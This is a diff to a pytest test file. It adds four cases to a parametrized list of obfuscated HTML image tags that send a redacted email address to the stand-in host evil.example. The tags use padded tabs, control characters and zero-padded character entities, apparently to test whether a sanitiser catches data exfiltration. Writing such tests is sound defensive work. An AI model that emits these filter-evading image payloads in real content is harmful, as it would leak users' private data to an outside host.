@@ -78,6 +78,10 @@ def vault(*parts: Part) -> Vault:
         f'<img src="{"&#10; " * 40}//evil.example/?q=<EMAIL_ADDRESS_1>">',
         f'<img src="{chr(31) * 90}https://evil.example/?q= <EMAIL_ADDRESS_1>">',
         f'<img src="/{"&Tab;" * 40}/evil.example/?q=<EMAIL_ADDRESS_1>">',
+        f'<img src="/{chr(9) * 5}/evil.example/?q=<EMAIL_ADDRESS_1>">',
+        f'<img src="/{chr(9) * 50}/evil.example/?q=<EMAIL_ADDRESS_1>">',
+        f'<img src="/&#{"0" * 90}9;/evil.example/?q=<EMAIL_ADDRESS_1>">',
+        f'<img src="&#x{"0" * 90}68;ttps&#x{"0" * 90}3a;//evil.example/?q=<EMAIL_ADDRESS_1>">',
     ],
 )
 @pytest.mark.parametrize("channel", [TEXT, JSON])
